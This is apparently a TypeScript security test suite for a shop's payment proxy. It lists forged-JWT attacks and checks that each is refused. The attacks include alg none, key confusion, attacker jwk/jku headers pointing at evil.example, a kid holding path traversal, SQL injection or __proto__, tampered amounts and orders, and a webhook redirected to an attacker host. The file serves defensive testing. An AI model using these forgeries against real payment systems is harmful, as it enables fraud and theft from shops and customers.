/** Tokens that the shop did not issue, or not for this. */
import { generateKeyPairSync } from 'node:crypto'
import { decodeJwt, SignJWT, UnsecuredJWT } from 'jose'
import { createMovableClock, credentials, newOrder, requestFor, secret } from '../shop.ts'
import { type Attack, expectNothingSent, expectRefused, openScene, refused, type Scene } from './attack.ts'

const ID = '10203040-5060-4070-8090-102030405060'
const ANY_ORDER = 'charges, or reads, any order of the shop'
const json = { 'content-type': 'application/json' }

/** Tries it at every path that takes a token. */
const forged = (name: string, gain: string, forge: (scene: Scene) => Promise<string> | string): Attack => ({
  name: `a token ${name}`,
  gain,
  async attempt() {
    const scene = await openScene()
    const headers = { ...json, authorization: await forge(scene) }
    const body = JSON.stringify({ request: requestFor(scene.order) })
    for (const path of [`/async/status/${ID}`, `/async/result/${ID}`, `/transactions/${ID}`])
      expectRefused(await scene.call(path, { headers }), 401)
    const lookup = `/v2/transactions/tracking_id/${scene.order.trackingId}`
    expectRefused(await scene.call(lookup, { headers }), 401)
    expectRefused(await scene.call('/async/transactions/payments', { method: 'POST', headers, body }), 401)
    expectNothingSent(scene)
  },
})

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const headOf = (token: string): object => JSON.parse(Buffer.from(token.split('.')[0] ?? '', 'base64url').toString())

/** The customer's token, with its head or its content changed and its signature kept. */
function altered({ mine }: Scene, content: object, head: object = {}): string {
  const signature = mine.split('.')[2]
  return `Bearer ${part({ ...headOf(mine), ...head })}.${part({ ...decodeJwt(mine), ...content })}.${signature}`
}

/** With everything of a genuine one but the key. */
const signedWith = async ({ mine }: Scene, key: Uint8Array | CryptoKey, head: object = {}): Promise<string> =>
  `Bearer ${await new SignJWT({ ...decodeJwt(mine) }).setProtectedHeader({ alg: 'HS256', ...headOf(mine), ...head }).sign(key)}`

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)
const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })

export const tokenAttacks: readonly Attack[] = [
  forged('of alg none', ANY_ORDER, ({ mine }) => `Bearer ${new UnsecuredJWT(decodeJwt(mine)).encode()}`),
  forged('of alg none, with an empty signature', ANY_ORDER, (scene) =>
    altered(scene, {}, { alg: 'none' }).replace(/[^.]*$/, ''),
  ),
  forged('of alg None, which a comparison by case lets pass', ANY_ORDER, (scene) =>
    altered(scene, {}, { alg: 'None' }),
  ),
  forged('of alg HS512', ANY_ORDER, (scene) => altered(scene, {}, { alg: 'HS512' })),
  forged('signed by a key pair of the attacker, sent along as jwk', ANY_ORDER, async (scene) => {
    const jwk = rsa.publicKey.export({ format: 'jwk' })
    return signedWith(scene, rsa.privateKey as never, { alg: 'RS256', jwk })
  }),
  forged('whose key is at an address of the attacker', ANY_ORDER, (scene) =>
    altered(scene, {}, { jku: 'https://evil.example/keys', x5u: 'https://evil.example/cert' }),
  ),
  forged('signed with the secret itself instead of the key derived from it', ANY_ORDER, (scene) =>
    signedWith(scene, bytes(secret)),
  ),
  forged('signed with the secret key of the shop', ANY_ORDER, (scene) =>
    signedWith(scene, bytes(credentials.secretKey.padEnd(32, '='))),
  ),
  forged('signed with its own kid', ANY_ORDER, (scene) =>
    signedWith(scene, bytes(`${(headOf(scene.mine) as { kid: string }).kid}`.padEnd(32, '\0'))),
  ),
  forged('signed with nothing', ANY_ORDER, (scene) => signedWith(scene, new Uint8Array(32))),
  forged('whose kid is a path', 'has a known file taken for a key', (scene) =>
    altered(scene, {}, { kid: '../../../../dev/null' }),
  ),
  forged('whose kid is a query', 'has a key of its own taken from a database', (scene) =>
    altered(scene, {}, { kid: "x' UNION SELECT 'key" }),
  ),
  forged('whose kid is __proto__', 'finds a key that everything has', (scene) =>
    altered(scene, {}, { kid: '__proto__' }),
  ),
  forged('with a critical extension', 'is understood in another way', (scene) =>
    altered(scene, {}, { crit: ['b64'], b64: false }),
  ),
  forged('of a larger amount', 'has the shop believe in more money', (scene) => altered(scene, { amount: 100_000 })),
  forged('of a smaller amount', 'pays 1 for an order', (scene) => altered(scene, { amount: 1 })),
  forged('of another order', 'reads and pays the order of somebody else', (scene) =>
    altered(scene, { trackingId: 'order-1' }),
  ),
  forged('of another type', 'sends a refund', (scene) => altered(scene, { type: 'refunds' })),
  forged('of another attempt', 'charges a second time', (scene) => altered(scene, { attempt: 2 })),
  forged('with a later end', 'charges for ever', (scene) => altered(scene, { charge_exp: 9e9, exp: 9e9 })),
  forged('that pays with saved cards', 'pays with the saved card of somebody else', (scene) =>
    altered(scene, { savedCard: true }),
  ),
  forged('that fixes a webhook of the attacker', 'is sent the credentials of the shop', (scene) =>
    altered(scene, { fixed: { notification_url: 'https://evil.example/' } }),
  ),
  forged(
    'whose head is that of another',
    ANY_ORDER,
    ({ mine }) => `Bearer ${part({ typ: 'JWT', alg: 'HS256' })}.${mine.split('.').slice(1).join('.')}`,
  ),
  forged('without its signature', ANY_ORDER, ({ mine }) => `Bearer ${mine.split('.').slice(0, 2).join('.')}.`),
  forged('with half of its signature', ANY_ORDER, ({ mine }) => `Bearer ${mine.slice(0, -20)}`),
  forged(
    'followed by a second one',
    'has one checked and the other used',
    ({ mine }) => `Bearer ${mine}, Bearer ${mine}`,
  ),
  forged('in another scheme', 'passes where only the scheme is looked at', ({ mine }) => `Basic ${mine}`),
  forged('of five parts, as if it were encrypted', ANY_ORDER, ({ mine }) => `Bearer ${mine}.x.y`),
  forged('of 60 kB', 'keeps the processor busy with signatures', ({ mine }) => `Bearer ${mine}${'A'.repeat(60_000)}`),
  forged(
    'in base64 that is not of URLs',
    'is one token of many spellings, each with limits of its own',
    ({ mine }) => `Bearer ${mine}=`,
  ),
  forged(
    'that is the shop’s own Basic',
    'uses the proxy as the gateway',
    () => `Basic ${btoa(`${credentials.shopId}:${credentials.secretKey}`)}`,
  ),
  forged('of another shop with the same secret', 'pays here with the right of there', ({ another, order }) =>
    another({ gateway: { baseUrl: 'https://gateway.test', shopId: '362', secretKey: 'x' } })
      .issue({ type: 'payments', ...order })
      .then((token) => `Bearer ${token}`),
  ),
  forged('of the test gateway, with the same secret', 'pays an order with a test card', ({ another, order }) =>
    another({ gateway: { baseUrl: 'https://demo.gateway.test', ...credentials } })
      .issue({ type: 'payments', ...order })
      .then((token) => `Bearer ${token}`),
  ),
  forged('under a secret that was dropped', 'keeps what a rotation was to take away', ({ another, order }) =>
    another({ secret: 'a-secret-that-was-dropped-long-ago-x7' })
      .issue({ type: 'payments', ...order })
      .then((token) => `Bearer ${token}`),
  ),
  forged('of a clock that is ahead', 'charges for longer than 15 minutes', ({ another, order }) => {
    const clock = createMovableClock()
    clock.move(10 * 60_000)
    return another({ clock })
      .issue({ type: 'payments', ...order })
      .then((token) => `Bearer ${token}`)
  }),
  refused('a token in the query', 'leaves it in every log on the way', 401, ({ call, mine }) =>
    call(`/async/status/${ID}?access_token=${mine}`),
  ),
  refused('a token in a cookie', 'has another site use it for the customer', 401, ({ call, mine }) =>
    call(`/async/status/${ID}`, { headers: { cookie: `token=${mine}; Authorization=Bearer ${mine}` } }),
  ),
  refused('a token in the body', 'has a form of another site send it', 401, ({ call, mine, order }) =>
    call('/async/transactions/payments', {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ access_token: mine, request: requestFor(order) }),
    }),
  ),
  {
    name: 'a token after its 15 minutes',
    gain: 'charges on the right of a page that was closed long ago',
    async attempt() {
      const scene = await openScene()
      scene.clock.move(15 * 60_000 + 1000)
      expectRefused(await scene.pay(), 401)
      expectNothingSent(scene)
    },
  },
  {
    name: 'a token after its day',
    gain: 'reads what became of orders for ever',
    async attempt() {
      const scene = await openScene()
      scene.clock.move(24 * 60 * 60_000 + 60_000)
      expectRefused(await scene.call(`/async/status/${ID}`, { token: scene.mine }), 401)
      expectNothingSent(scene)
    },
  },
  refused('a token of one type, for another', 'sends a payout with the right to pay', 403, ({ call, mine, order }) =>
    call('/async/transactions/payouts', {
      method: 'POST',
      token: mine,
      headers: json,
      body: JSON.stringify({ request: requestFor(order) }),
    }),
  ),
  refused(
    'a token of one order, for another',
    'pays the cheaper one, and has the other delivered',
    403,
    ({ mine, post }) => post(mine, requestFor(newOrder())),
  ),
]
